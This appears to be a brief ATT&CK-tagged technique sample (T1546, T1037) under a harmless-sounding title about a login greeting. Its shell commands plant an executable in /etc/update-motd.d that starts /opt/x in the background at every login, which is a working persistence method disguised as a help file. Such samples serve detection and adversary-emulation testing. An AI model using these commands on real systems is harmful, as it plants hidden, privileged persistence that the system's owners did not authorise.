# title: A script that runs at each login to make its greeting
# technique: T1546 T1037

printf '#!/bin/sh\n/opt/x &\n' >/etc/update-motd.d/20-help
chmod 755 /etc/update-motd.d/20-help
